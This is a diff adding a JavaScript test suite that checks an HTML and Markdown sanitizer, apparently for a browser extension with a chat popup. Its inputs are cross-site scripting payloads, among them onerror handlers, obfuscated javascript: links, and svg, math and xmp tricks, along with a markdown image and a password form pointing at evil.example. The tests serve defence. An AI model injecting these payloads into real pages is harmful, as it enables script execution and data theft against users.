@@ -0,0 +1,178 @@
+const test = require('node:test');
+const assert = require('node:assert/strict');
+const fs = require('fs');
+const path = require('path');
+const { JSDOM } = require('jsdom');
+const { root } = require('./helpers/load');
+const { openPage, settle } = require('./helpers/extension');
+
+// htmlSanitizer with marked, in a window of its own
+function loadSanitizer() {
+  const { window } = new JSDOM('<body></body>', { runScripts: 'outside-only' });
+  const source = ['marked.min.js', 'sanitizer.js']
+    .map(file => fs.readFileSync(path.join(root, file), 'utf8'))
+    .join(';\n');
+  window.eval(`${source};\nwindow.htmlSanitizer = htmlSanitizer;`);
+  return window;
+}
+
+const window = loadSanitizer();
+const { htmlSanitizer } = window;
+
+// Parse sanitized HTML to inspect it
+function parse(html) {
+  const container = window.document.createElement('div');
+  container.innerHTML = html;
+  return container;
+}
+
+// Every attribute that runs script or loads a javascript: URL
+function findScriptVectors(container) {
+  const found = [];
+  container.querySelectorAll('*').forEach(element => {
+    Array.from(element.attributes).forEach(attribute => {
+      if (/^on/i.test(attribute.name) || /javascript:/i.test(attribute.value.replace(/[\u0000- ]/g, ''))) {
+        found.push(`${element.tagName} ${attribute.name}`);
+      }
+    });
+  });
+  return found;
+}
+
+test('drops <script> with its content', () => {
+  const container = parse(htmlSanitizer.sanitize('<p>before<script>alert(1)</script>after</p>'));
+  assert.equal(container.querySelector('script'), null);
+  assert.equal(container.textContent, 'beforeafter');
+});
+
+const pixel = 'data:image/png;base64,iVBORw0KGgo=';
+
+test('removes event handler attributes such as <img onerror>', () => {
+  const container = parse(htmlSanitizer.sanitize(`<img src="${pixel}" onerror="alert(1)" onload="alert(2)">`));
+  const image = container.querySelector('img');
+  assert.ok(image);
+  assert.equal(image.getAttribute('src'), pixel);
+  assert.deepEqual(findScriptVectors(container), []);
+});
+
+test('shows a remote <img> as a link instead of loading it', () => {
+  const container = parse(htmlSanitizer.renderMarkdown(
+    '![chart](https://evil.example/?q=secret) <img src="http://evil.example/p.png">'
+  ));
+  assert.equal(container.querySelector('img'), null);
+  const links = Array.from(container.querySelectorAll('a'), link => [link.textContent, link.getAttribute('href'), link.getAttribute('rel')]);
+  assert.deepEqual(links, [
+    ['chart', 'https://evil.example/?q=secret', 'noopener noreferrer'],
+    ['http://evil.example/p.png', 'http://evil.example/p.png', 'noopener noreferrer']
+  ]);
+});
+
+test('drops an <img> whose src is not a safe URL', () => {
+  const container = parse(htmlSanitizer.sanitize('<img src=x onerror=alert(1)>'));
+  assert.equal(container.querySelector('img'), null);
+});
+
+test('removes javascript: hrefs, including ones hidden with entities and control characters', () => {
+  [
+    '<a href="javascript:alert(1)">x</a>',
+    '<a href="JaVaScRiPt:alert(1)">x</a>',
+    '<a href="jav&#x09;ascript:alert(1)">x</a>',
+    '<a href="&#x20;javascript:alert(1)">x</a>',
+    '<a href="java\nscript:alert(1)">x</a>'
+  ].forEach(html => {
+    const link = parse(htmlSanitizer.sanitize(html)).querySelector('a');
+    assert.ok(link, html);
+    assert.equal(link.hasAttribute('href'), false, html);
+    assert.equal(link.textContent, 'x');
+  });
+});
+
+test('removes javascript: links inside <svg>', () => {
+  const container = parse(htmlSanitizer.sanitize('<svg><a href="javascript:alert(1)"><text>click</text></a></svg>'));
+  assert.deepEqual(findScriptVectors(container), []);
+  container.querySelectorAll('a').forEach(link => assert.equal(link.hasAttribute('href'), false));
+  assert.match(container.textContent, /click/);
+});
+
+test('unwraps <xmp> and <noembed> to inert text', () => {
+  ['<xmp><img src=x onerror=alert(1)></xmp>', '<noembed><img src=x onerror=alert(1)></noembed>'].forEach(html => {
+    const sanitized = htmlSanitizer.sanitize(html);
+    const container = parse(sanitized);
+    assert.equal(container.querySelector('xmp, noembed, img'), null, sanitized);
+    assert.match(container.textContent, /<img src=x onerror=alert\(1\)>/);
+  });
+});
+
+test('removes <form> and <math> with their content', () => {
+  const container = parse(htmlSanitizer.sanitize(
+    '<form action="https://evil.example"><input type="password" name="p"><button>Go</button></form>' +
+    '<math><mtext><a href="javascript:alert(1)">m</a></mtext></math><p>kept</p>'
+  ));
+  assert.equal(container.querySelector('form, input, button, math, mtext'), null);
+  assert.equal(container.textContent, 'kept');
+});
+
+test('links open in a new tab without an opener', () => {
+  const link = parse(htmlSanitizer.sanitize('<a href="https://example.com/" target="_self" rel="opener">site</a>')).querySelector('a');
+  assert.equal(link.getAttribute('target'), '_blank');
+  assert.equal(link.getAttribute('rel'), 'noopener noreferrer');
+});
+
+test('in-page anchors keep their behavior', () => {
+  const link = parse(htmlSanitizer.sanitize('<a href="#notes">notes</a>')).querySelector('a');
+  assert.equal(link.getAttribute('href'), '#notes');
+  assert.equal(link.hasAttribute('target'), false);
+});
+
+test('renderMarkdown sanitizes raw HTML and Markdown links', () => {
+  const container = parse(htmlSanitizer.renderMarkdown(
+    '# Title\n\n[x](javascript:alert(1)) <img src=x onerror=alert(1)>\n\n<script>alert(1)</script>\n\n[ok](https://example.com)'
+  ));
+  assert.equal(container.querySelector('h1').textContent, 'Title');
+  assert.equal(container.querySelector('script, img'), null);
+  assert.deepEqual(findScriptVectors(container), []);
+  const safeLink = container.querySelector('a[href="https://example.com"]');
+  assert.ok(safeLink);
+  assert.equal(safeLink.getAttribute('rel'), 'noopener noreferrer');
+});
+
+test('escapeHtml escapes markup and quotes', () => {
+  assert.equal(htmlSanitizer.escapeHtml('<a href="x">\'&\'</a>'), '&lt;a href=&quot;x&quot;&gt;&#39;&amp;&#39;&lt;/a&gt;');
+});
+
+test('context chips show page titles and selections as text (formatContextChip)', async () => {
+  const title = '<img src=x onerror=alert(1)>';
+  const selection = '<script>alert(1)</script><b>bold</b>';
+  const { window: popup, document, store } = openPage('popup.html', {
+    onMessage: (message) => {
+      if (message.action === 'getSelectedText') return { selectedText: selection };
+      if (message.action === 'getCurrentPageInfo') {
+        return { title, url: 'https://example.com/', description: '', mainContent: 'Body text' };
+      }
+      return undefined;
+    }
+  });
+
+  try {
+    await settle(100);
+    document.getElementById('use-selection').click();
+    document.getElementById('use-page').click();
+    await settle();
+    document.getElementById('user-input').value = 'What is this?';
+    document.getElementById('send-button').click();
+    await settle(100);
+
+    const chips = Array.from(document.querySelectorAll('.user-message .message-selection'));
+    assert.equal(chips.length, 2);
+    assert.equal(chips[0].querySelector('.message-selection-header span').textContent, `Selected text (${selection.length} chars)`);
+    assert.equal(chips[0].querySelector('pre').textContent, selection);
+    assert.equal(chips[1].querySelector('.message-selection-header span').textContent, `Page: ${title} (9 chars)`);
+    assert.equal(document.querySelector('.user-message script, .user-message img, .user-message b'), null);
+
+    const chat = store[Object.keys(store).find(key => key.startsWith('chat:'))];
+    assert.match(chat.messages[0].display, /&lt;img src=x onerror=alert\(1\)&gt;/);
+    assert.match(chat.messages[0].display, /&lt;script&gt;alert\(1\)&lt;\/script&gt;/);
+  } finally {
+    popup.close();
+  }
+});